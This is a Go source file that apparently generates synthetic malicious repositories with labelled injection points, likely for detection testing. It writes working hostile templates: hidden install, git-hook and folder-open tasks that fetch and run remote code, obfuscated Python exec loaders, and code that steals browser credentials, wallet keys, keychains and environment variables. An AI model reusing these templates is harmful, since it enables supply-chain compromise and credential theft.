package synth

import (
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"fmt"
	"strconv"
	"strings"
)

// entryFiles is the file of each template that loads its environment at
// start: where an .env-smuggled URL is read and run.
var entryFiles = map[string]string{
	Express: "server/index.js",
	Next:    "next.config.js",
	Vite:    "server/index.cjs",
	Hardhat: "hardhat.config.js",
}

func (g *gen) injectEnv(l Location) error {
	file := entryFiles[g.tpl]
	content, ok := g.repo[file]
	if !ok {
		return fmt.Errorf("template %s has no %s", g.tpl, file)
	}
	key := g.pick([]string{"DEV_API_KEY", "AUTH_API_KEY", "RUNTIME_CONFIG_API_KEY", "NEXT_PUBLIC_ANALYTICS_KEY"})
	u := g.url()
	val := base64.StdEncoding.EncodeToString([]byte(u))
	envFile := ".env"
	load := "require('dotenv').config();\n"
	if l == EnvExample {
		envFile = g.pick([]string{"config.env.example", ".env.example"})
		load = fmt.Sprintf("require('dotenv').config({ path: './%s' });\n", envFile)
	}
	env := g.repo[envFile]
	if env == "" {
		env = "PORT=4000\nNODE_ENV=development\n"
	}
	env += fmt.Sprintf("%s=%s\nAUTH_HEADER=eC1zZWNyZXQtaGVhZGVy\n", key, val)
	g.repo[envFile] = env
	keyLine := strings.Count(env, "\n") - 1

	code := load + fmt.Sprintf(`const src = Buffer.from(process.env.%s, 'base64').toString();
const header = Buffer.from(process.env.AUTH_HEADER, 'base64').toString();
require('axios')
  .get(src, { headers: { [header]: 'true' } })
  .then((res) => {
    %s
  })
  .catch(() => console.log('Auth Error!'));`, key, g.sink(g.pickSink(), "res.data"))
	if strings.Contains(content, "require('dotenv').config();") {
		content = strings.Replace(content, "require('dotenv').config();\n", "", 1)
	}
	content, line := insertAfterHeader(content, code)
	g.repo[file] = content
	trig := triggerOf(g.tpl, file)
	g.mark(file, line, trig, true, "reads the URL from "+envFile)
	g.mark(envFile, keyLine, trig, false, key+" holds a base64 URL")
	g.variant = envFile
	return nil
}

func (g *gen) pickSink() Technique {
	return []Technique{RemoteEval, FunctionConstructor, FunctionRequire, RemoteNewFunction}[g.rng.IntN(4)]
}

// addScript puts "name": "cmd" first in package.json's scripts and
// returns the line it is on.
func (g *gen) addScript(name, cmd string) (int, error) {
	pj := g.repo["package.json"]
	const open = "\"scripts\": {\n"
	i := strings.Index(pj, open)
	if i < 0 {
		return 0, fmt.Errorf("package.json has no scripts")
	}
	at := i + len(open)
	entry := fmt.Sprintf("    %q: %q,\n", name, cmd)
	if strings.Contains(pj, fmt.Sprintf("%q:", name)) {
		return 0, fmt.Errorf("package.json already has a %s script", name)
	}
	pj = pj[:at] + entry + pj[at:]
	g.repo["package.json"] = pj
	return lineOf(pj, at), nil
}

func (g *gen) injectInstallScript() error {
	hook := g.pick([]string{"preinstall", "install", "postinstall", "prepare"})
	file := g.pick([]string{".config/prepare.js", "scripts/.cache/setup.js", "lib/.init.js", "assets/fonts/inter.woff.js"})
	g.variant = hook
	line, err := g.addScript(hook, "node "+file)
	if err != nil {
		return err
	}
	g.repo[file] = g.payload(RemoteEval, false) + "\n"
	g.mark(file, 1, OnInstall, true, "run by the "+hook+" script")
	g.mark("package.json", line, OnInstall, false, hook+" runs "+file)
	return nil
}

const tasksTemplate = `{
  "version": "2.0.0",
  "tasks": [
    {
      "label": %q,
      "type": "shell",
      "command": %q,%s
      "presentation": { "reveal": "never", "echo": false, "focus": false, "close": true },
      "runOptions": { "runOn": "folderOpen" }
    }
  ]
}
`

func (g *gen) injectVSCode() error {
	label := g.pick([]string{"eslint-check", "install-root-modules", "env", "sync-fonts"})
	var cmd, extra string
	if k := g.rng.IntN(3); k < 2 {
		g.variant = "node-fake-font"
		font := "public/fonts/fa-solid-400.woff2"
		cmd = "node " + font
		if k == 1 {
			// "type": "process" with the file among the args.
			g.variant = "process-fake-font"
			cmd = "node"
			extra = fmt.Sprintf("\n      \"args\": [%q],", font)
		}
		g.repo[font] = "/*! Font Awesome Free 6.5.1 */\n" + g.payload(RemoteEval, false) + "\n"
		g.mark(font, 2, OnOpen, true, "JavaScript named like a font, run by .vscode/tasks.json")
	} else {
		g.variant = "curl-pipe-sh"
		u := g.pick(shellURLs)
		cmd = fmt.Sprintf("curl -s '%s' | sh", u)
		extra = fmt.Sprintf("\n      \"windows\": { \"command\": %q },\n      \"osx\": { \"command\": %q },",
			fmt.Sprintf("curl -s %s?os=win | cmd", u), fmt.Sprintf("curl -s '%s?os=mac' | bash", u))
	}
	tasks := fmt.Sprintf(tasksTemplate, label, cmd, extra)
	if g.variant == "process-fake-font" {
		tasks = strings.Replace(tasks, `"type": "shell"`, `"type": "process"`, 1)
	}
	g.repo[".vscode/tasks.json"] = tasks
	line := lineOf(tasks, strings.Index(tasks, "\"command\""))
	g.mark(".vscode/tasks.json", line, OnOpen, g.variant == "curl-pipe-sh", "folderOpen task")
	return nil
}

func (g *gen) injectGitHook() error {
	u := g.pick(shellURLs)
	hook := g.pick([]string{"pre-commit", "post-checkout", "pre-push"})
	body := fmt.Sprintf("#!/bin/sh\n# keep formatting consistent\nnpx --no-install lint-staged >/dev/null 2>&1\ncurl -fsSL '%s' | sh >/dev/null 2>&1 &\n", u)
	var file string
	if _, ok := g.repo["package.json"]; ok && g.rng.IntN(2) == 0 {
		g.variant = "husky"
		file = ".husky/" + hook
		if _, err := g.addScript("prepare", "husky"); err != nil {
			return err
		}
	} else {
		g.variant = "git-hooks"
		file = ".git/hooks/" + hook
		g.repo[".git/HEAD"] = "ref: refs/heads/main\n"
		g.repo[".git/config"] = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n"
	}
	g.repo[file] = body
	g.mark(file, 4, OnCommit, true, hook+" hook pipes a download into sh")
	return nil
}

// Names attributed to the campaigns, each in lure/intel's cited sources.
var (
	npmCampaignNames  = []string{"tailwind-magic", "vite-plugin-next-refresh", "node-orm-mongoose", "react-plaid-sdk", "passports-js", "bcrypts-js", "eth-auditlog", "vite-postcss-tools", "expressjs-lint", "js-logger-pack"}
	pypiCampaignNames = []string{"graphalgo"}
)

func (g *gen) injectDependency() error {
	if g.tpl == Flask {
		name := g.pick(pypiCampaignNames)
		req := g.repo["requirements.txt"]
		req += name + "==0.1.4\n"
		g.repo["requirements.txt"] = req
		g.variant = name
		g.mark("requirements.txt", strings.Count(req, "\n"), OnInstall, true, name+" is attributed to the campaigns")
		return nil
	}
	name := g.pick(npmCampaignNames)
	g.variant = name
	pj := g.repo["package.json"]
	open := "\"dependencies\": {\n"
	i := strings.Index(pj, open)
	if i < 0 {
		open = "\"devDependencies\": {\n"
		i = strings.Index(pj, open)
	}
	if i < 0 {
		return fmt.Errorf("package.json has no dependencies")
	}
	at := i + len(open)
	pj = pj[:at] + fmt.Sprintf("    %q: \"^1.0.%d\",\n", name, g.rng.IntN(9)) + pj[at:]
	g.repo["package.json"] = pj
	g.mark("package.json", lineOf(pj, at), OnInstall, true, name+" is attributed to the campaigns")
	return nil
}

const pyModule = "vendor/pyperclip/__init__.py"

func (g *gen) injectPython(t Technique) error {
	content := g.repo[pyModule]
	u := g.url()
	var imports, block string
	switch t {
	case PythonExec:
		switch g.rng.IntN(5) {
		case 4:
			// pyobfuscate's wrapping, as InvisibleFerret ships: the
			// code zlib-compressed, base64-encoded, reversed, and the
			// result wrapped the same way again, layer after layer
			g.variant = "reversed-base64-zlib-layers"
			code := fmt.Sprintf("import requests\nexec(requests.get(%q, timeout=5).text)\n", u)
			for range 2 + g.rng.IntN(4) {
				var z bytes.Buffer
				zw := zlib.NewWriter(&z)
				zw.Write([]byte(code))
				zw.Close()
				enc := []byte(base64.StdEncoding.EncodeToString(z.Bytes()))
				for i, j := 0, len(enc)-1; i < j; i, j = i+1, j-1 {
					enc[i], enc[j] = enc[j], enc[i]
				}
				code = fmt.Sprintf("_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'%s'))", enc)
			}
			block = code + "\n"
		case 3:
			g.variant = "zlib-compile"
			inner := fmt.Sprintf("import requests\nexec(requests.get(%q, timeout=5).text)\n", u)
			var z bytes.Buffer
			zw := zlib.NewWriter(&z)
			zw.Write([]byte(inner))
			zw.Close()
			imports = "import base64\nimport zlib\n"
			block = fmt.Sprintf("_c = compile(zlib.decompress(base64.b64decode(%q)), \"<clip>\", \"exec\")\ntry:\n    exec(_c)\nexcept Exception:\n    pass\n", base64.StdEncoding.EncodeToString(z.Bytes()))
		case 0:
			g.variant = "base64"
			inner := fmt.Sprintf("import requests\nexec(requests.get(%q, timeout=5).text)\n", u)
			imports = "import base64\n"
			block = fmt.Sprintf("try:\n    exec(base64.b64decode(%q))\nexcept Exception:\n    pass\n", base64.StdEncoding.EncodeToString([]byte(inner)))
		case 1:
			g.variant = "remote"
			imports = "import threading\n\nimport requests\n"
			block = fmt.Sprintf("\ndef _sync():\n    try:\n        exec(requests.get(%q, timeout=5).text, {\"__name__\": \"__sync__\"})\n    except Exception:\n        pass\n\n\nthreading.Thread(target=_sync, daemon=True).start()\n", u)
		default:
			g.variant = "rot13"
			inner := fmt.Sprintf("import requests\nexec(requests.get(%q, timeout=5).text)", u)
			imports = "import codecs\n"
			block = fmt.Sprintf("try:\n    exec(codecs.decode(%q, \"rot13\"))\nexcept Exception:\n    pass\n", rot13(inner))
		}
	case StealerPaths:
		imports = "import os\nimport pathlib\n\nimport requests\n"
		ids := make([]string, 0, 3)
		for _, i := range g.rng.Perm(len(walletExtensionIDs))[:3] {
			ids = append(ids, strconv.Quote(walletExtensionIDs[i]))
		}
		block = fmt.Sprintf(`
_home = pathlib.Path.home()
_profile = _home / ".config" / "google-chrome" / "Default"
_targets = [_profile / "Login Data", _profile / "Web Data", _home / ".config" / "solana" / "id.json",
            _home / "Library" / "Keychains" / "login.keychain-db"]
for _id in [%s]:
    _ext = _profile / "Local Extension Settings" / _id
    if _ext.is_dir():
        _targets.extend(_ext.iterdir())
_files = {}
for _p in _targets:
    try:
        _files[str(_p).replace(os.sep, "_")] = _p.read_bytes()
    except OSError:
        pass
try:
    requests.post(%q, files=_files, data={"hid": os.uname().nodename}, timeout=5)
except Exception:
    pass
`, strings.Join(ids, ", "), g.pick(uploadURLs))
	case EnvExfil:
		imports = "import os\n\nimport requests\n"
		block = fmt.Sprintf("\ntry:\n    requests.post(%q, json={\"env\": dict(os.environ), \"cwd\": os.getcwd()}, timeout=5)\nexcept Exception:\n    pass\n", g.pick(uploadURLs))
	}
	// Imports go after the module's own; the block after the imports.
	lines := strings.SplitAfter(content, "\n")
	at := 0
	for i, l := range lines {
		if strings.HasPrefix(l, "import ") || strings.HasPrefix(l, "from ") {
			at = i + 1
		}
	}
	head := strings.Join(lines[:at], "") + imports + "\n"
	out := head + block + strings.Join(lines[at:], "")
	line := lineOf(out, len(head))
	for strings.HasPrefix(out[len(head):], "\n") {
		head += "\n"
		line++
	}
	g.repo[pyModule] = out
	g.mark(pyModule, line, OnStart, true, "imported when python main.py loads app/routes.py")
	return nil
}

func rot13(s string) string {
	b := []byte(s)
	for i, c := range b {
		switch {
		case c >= 'a' && c <= 'z':
			b[i] = 'a' + (c-'a'+13)%26
		case c >= 'A' && c <= 'Z':
			b[i] = 'A' + (c-'A'+13)%26
		}
	}
	return string(b)
}

// injectNpmrc writes an .npmrc whose node-options preload a hidden
// script into every node process npm starts (npm install, npm run dev).
func (g *gen) injectNpmrc() error {
	file := g.pick([]string{".cache/npm-init.js", "scripts/.config/preload.cjs", ".husky/_/env.js"})
	g.variant = file
	rc := "engine-strict=true\n" + fmt.Sprintf("node-options=--require ./%s\n", file)
	if g.rng.IntN(2) == 0 {
		rc = "save-exact=true\n" + fmt.Sprintf("node-options=\"--max-old-space-size=4096 -r ./%s\"\n", file)
	}
	g.repo[".npmrc"] = rc
	g.repo[file] = g.payload(RemoteEval, false) + "\n"
	g.mark(file, 1, OnInstall, true, "preloaded by .npmrc node-options")
	g.mark(".npmrc", 2, OnInstall, false, "node-options --require")
	return nil
}

// injectNodeEval puts a loader inline in a node -e command: an install
// script of package.json, or a folderOpen task of type process.
func (g *gen) injectNodeEval(l Location) error {
	u := g.url()
	code := fmt.Sprintf("fetch('%s').then((r) => r.text()).then((t) => eval(t)).catch(() => {})", u)
	if g.rng.IntN(2) == 0 {
		code = fmt.Sprintf("require('https').get('%s', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => { new Function('require', d)(require); }); })", strings.Replace(u, "http://", "https://", 1))
	}
	if l == VSCodeTasks {
		g.variant = "task"
		tasks := fmt.Sprintf(`{
  "version": "2.0.0",
  "tasks": [
    {
      "label": %q,
      "type": "process",
      "command": "node",
      "args": ["-e", %q],
      "presentation": { "reveal": "never", "echo": false },
      "runOptions": { "runOn": "folderOpen" }
    }
  ]
}
`, g.pick([]string{"env", "eslint-check", "sync-settings"}), code)
		g.repo[".vscode/tasks.json"] = tasks
		g.mark(".vscode/tasks.json", lineOf(tasks, strings.Index(tasks, "\"args\"")), OnOpen, true, "node -e loader in a folderOpen task")
		return nil
	}
	hook := g.pick([]string{"preinstall", "postinstall", "prepare"})
	g.variant = hook
	line, err := g.addScript(hook, "node -e \""+strings.ReplaceAll(code, `"`, `\"`)+"\"")
	if err != nil {
		return err
	}
	g.mark("package.json", line, OnInstall, true, hook+" runs a node -e loader")
	return nil
}
